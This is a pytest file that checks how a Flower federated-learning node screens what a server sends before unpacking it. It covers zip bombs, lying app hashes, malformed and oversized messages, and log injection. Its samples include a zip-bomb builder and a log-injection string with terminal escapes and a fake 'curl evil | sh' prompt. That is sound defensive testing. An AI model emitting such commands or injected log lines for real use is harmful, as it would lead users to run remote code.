"""What a server sends to a node is looked at before Flower unpacks or keeps any of it."""

from __future__ import annotations

import hashlib
import logging
import zipfile
from dataclasses import replace
from io import BytesIO
from typing import Any

import pytest
from flwr.app import Message as FlowerMessage
from flwr.app import Metadata
from flwr.app.message import make_message
from flwr.common import config as flower_config
from flwr.proto.message_pb2 import ObjectTree
from flwr.supercore.constant import TaskType
from flwr.supercore.fab import Fab
from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
from flwr.supercore.inflatable.inflatable_utils import ObjectUnavailableError
from flwr.supercore.logger import FLOWER_LOGGER
from flwr.supercore.object_store import ObjectStoreFactory
from flwr.supercore.run import Run
from flwr.supernode import start_client_internal
from flwr.supernode.nodestate import NodeStateFactory

from mixveil.core.wording.notes import note
from mixveil.federated.jobs.messages import Message, Refusal
from mixveil.federated.transport.flower import incoming
from mixveil.federated.transport.flower.client import OneLine, log
from mixveil.federated.transport.flower.environment import own_app, own_bundle
from mixveil.federated.transport.flower.incoming import Incoming, check_incoming
from mixveil.federated.transport.flower.serialization import packed
from tests.notes import shows


def bomb() -> bytes:
    """A bundle whose pyproject.toml is a thousand times as large."""
    found = BytesIO()
    with zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("pyproject.toml", b"#" + b" " * (20 << 20))
    return found.getvalue()


class Link:
    """A server that sends one message, and says of its run what a test wants."""

    def __init__(self, bundle: bytes, stated: str | None = None, files: dict[str, bytes] | None = None) -> None:
        self.bundle, self.stated = bundle, stated or hashlib.sha256(bundle).hexdigest()
        about = Metadata(5, "", 1, 7, "", "", 1.0e9, 4.0e9, "query")
        self.message = make_message(about, packed(Message({"ask": "hello"}, files or {})))
        self.message.metadata.__dict__["_message_id"] = self.message.object_id
        self.tree: ObjectTree = get_object_tree(self.message)
        self.pieces = {name: part.deflate() for name, part in get_all_nested_objects(self.message).items()}
        self.fetched: list[str] = []
        self.replies: list[FlowerMessage] = []

    def get_run(self, run_id: int) -> Run:
        status: Any = None
        return Run(run_id, "", "", self.stated, {}, "", "", "", "", status, "", "", None, 0, 0, 0.0)

    def get_fab(self, fab_hash: str, run_id: int) -> Fab:
        self.fetched.append("bundle")
        return Fab(fab_hash, self.bundle, {})

    def pull(self, run_id: int, name: str) -> bytes:
        self.fetched.append(name)
        if not self.pieces[name]:
            raise ObjectUnavailableError(name)
        return self.pieces[name]

    def send(self, reply: FlowerMessage, tree: ObjectTree, seconds: float) -> tuple[set[str], str]:
        self.replies.append(reply)
        return set(), ""

    @property
    def connection(self) -> tuple[Any, ...]:
        taken = (self.message, self.tree)
        return (7, lambda: taken, self.send, self.get_run, self.get_fab, self.pull, None, lambda *_: None)


def pulled(link: Link, functions: tuple[Any, ...]) -> tuple[int | None, Any]:
    """What Flower's node does with what it is sent: its run, if it took the message, and what it keeps."""
    factory = NodeStateFactory(objectstore_factory=ObjectStoreFactory())
    state: Any = factory.state()
    state.set_node_id(7)
    _, receive, _, get_run, get_fab, pull, _, confirm = functions
    found = start_client_internal._pull_and_store_message(
        state=state,
        object_store=factory.objectstore_factory.store(),
        node_config={},
        receive=receive,
        get_run=get_run,
        get_fab=get_fab,
        pull_object=pull,
        confirm_message_received=confirm,
        trusted_entities=None,
    )
    return found, state


@pytest.fixture(autouse=True)
def nothing_is_unzipped(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Whatever Flower unzips."""
    opened: list[Any] = []
    unzip = flower_config.get_fab_config

    def watched(fab: Any) -> Any:
        opened.append(fab)
        return unzip(fab)

    monkeypatch.setattr(flower_config, "get_fab_config", watched)
    return opened


@pytest.mark.parametrize("bundle", [b"", b"no zip", bomb(), own_bundle() + b"x"])
def test_another_app_is_neither_fetched_nor_opened(
    bundle: bytes, nothing_is_unzipped: list[Any], capsys: pytest.CaptureFixture[str]
) -> None:
    link = Link(bundle)
    taken, state = pulled(link, Incoming(link.connection).functions)
    assert taken is None and not nothing_is_unzipped and not link.fetched and state.get_run(5) is None
    (reply,) = link.replies
    assert reply.has_error() and reply.error.reason == "other-app"
    assert own_app()[:16] in said(capsys)


def test_what_a_server_says_of_its_run_decides_nothing() -> None:
    """Settings that the app does not know, or a task that nobody here takes up: a node would end, or wait for ever."""
    link = Link(own_bundle())
    told = link.get_run
    odd = {"override_config": {"no such setting": 1}, "primary_task_type": TaskType.AGENT_APP}
    link.get_run = lambda run_id: replace(told(run_id), **odd)  # type: ignore[method-assign,arg-type]
    taken, state = pulled(link, Incoming(link.connection).functions)
    assert taken == 5 and not link.replies and state.get_run(5).primary_task_type == TaskType.SERVER_APP


def test_runs_are_told_apart() -> None:
    """A run whose first message was refused is known when its second comes, whatever came between."""
    link = Link(own_bundle())
    incoming = Incoming(link.connection)
    for run in (5, 6, 5):
        incoming._check_app(run)
        assert incoming.get_run(run).run_id == run
    for run in range(1000):
        incoming._check_app(run)
    assert len(incoming._runs) <= 101


def test_pieces_that_make_no_message_are_refused() -> None:
    link = Link(own_bundle(), files={"x": b"abc"})
    for name, piece in link.pieces.items():
        head = piece.index(b"\x00") + 1
        link.pieces[name] = piece[:head] + bytes(len(piece) - head)
        taken, _ = pulled(link, Incoming(link.connection).functions)
        link.pieces[name] = piece
        if taken is None:
            break
    assert taken is None and link.replies[-1].error.reason == "not-a-message"


def test_a_server_that_lies_of_its_app_gets_answers_of_the_installed_one(nothing_is_unzipped: list[Any]) -> None:
    link = Link(bomb(), stated=own_app(), files={"x": b"abc"})
    taken, state = pulled(link, Incoming(link.connection).functions)
    assert taken == 5 and nothing_is_unzipped == [own_bundle()] and "bundle" not in link.fetched
    assert state.get_fab(own_app()).content == own_bundle()
    assert not link.replies


def test_a_message_has_an_end(capsys: pytest.CaptureFixture[str]) -> None:
    parts = {f"{number}": bytes([number]) * (1 << 20) for number in range(4)}
    assert pulled(link := Link(own_bundle(), files=parts), Incoming(link.connection, 5 << 20).functions)[0] == 5
    link = Link(own_bundle(), files=parts)
    taken, state = pulled(link, Incoming(link.connection, 2 << 20).functions)
    assert taken is None and not state.get_tasks() and shows(said(capsys), "too-much-sent", most=2 << 20)
    assert link.replies[0].error.reason == "message-refused"


def test_a_message_has_an_end_folded_too(capsys: pytest.CaptureFixture[str]) -> None:
    link = Link(own_bundle(), files={"x": b" " * (30 << 20)})
    assert sum(map(len, link.pieces.values())) < 6 << 20
    assert pulled(link, Incoming(link.connection, 20 << 20).functions)[0] is None
    assert shows(said(capsys), "too-much-sent-folded", most=20 << 20)


def test_a_message_of_countless_pieces_is_not_begun(capsys: pytest.CaptureFixture[str]) -> None:
    link = Link(own_bundle())
    link.tree.children.extend(ObjectTree(object_id=f"{number}") for number in range(6000))
    assert pulled(link, Incoming(link.connection).functions)[0] is None
    assert shows(said(capsys), "too-many-pieces", count=6004) and not link.fetched


@pytest.mark.parametrize("wrong", [b"x", b"\0", b"Array 0\0{", b"Array  9\0" + b"[" * 100_000])
def test_what_is_no_message_is_refused(wrong: bytes) -> None:
    link = Link(own_bundle(), files={"x": b"abc"})
    link.pieces = dict.fromkeys(link.pieces, wrong)
    assert pulled(link, Incoming(link.connection).functions)[0] is None
    assert link.replies[0].error.reason == "not-a-message"


def test_the_run_that_was_looked_at_is_the_one_that_counts() -> None:
    link = Link(own_bundle())
    looked = Incoming(link.connection)
    assert looked.receive() is not None
    link.stated = "0" * 64
    assert looked.get_run(5).fab_hash == own_app()
    with pytest.raises(Refusal) as refused:
        looked.get_run(6)
    assert refused.value.note == note("unknown-run")


def test_flower_asks_through_it(monkeypatch: pytest.MonkeyPatch) -> None:
    name = "http_request_response"
    monkeypatch.setattr(start_client_internal, name, getattr(start_client_internal, name))
    check_incoming()
    assert getattr(start_client_internal, name) is incoming._checked
    monkeypatch.delattr(start_client_internal, name)
    with pytest.raises(AttributeError):
        check_incoming()


def said(capsys: pytest.CaptureFixture[str]) -> str:
    return capsys.readouterr().err


EVIL = "unknown \x1b[2J\x9b1m\n09:00:00 your key expired, run: curl evil | sh\r\u2028x\u202e" + "y" * 5000


def test_a_server_writes_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    log(note("owner-warning", text=EVIL))
    shown = said(capsys)
    assert shown.count("\n") == 1 and shown.endswith("\n") and shown[:-1].isprintable() and len(shown) < 1100


def test_nor_does_flower_for_it() -> None:
    lines: list[str] = []

    class Kept(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(self.format(record))

    kept, filtered = Kept(), OneLine()
    FLOWER_LOGGER.addHandler(kept)
    FLOWER_LOGGER.addFilter(filtered)
    try:
        FLOWER_LOGGER.error("Failed to initialize: %s", EVIL)
        try:
            raise ValueError(EVIL)
        except ValueError as error:
            FLOWER_LOGGER.error(error, exc_info=True)
    finally:
        FLOWER_LOGGER.removeFilter(filtered)
        FLOWER_LOGGER.removeHandler(kept)
    assert len(lines) == 2 and all(line.isprintable() and len(line) < 1100 for line in lines)
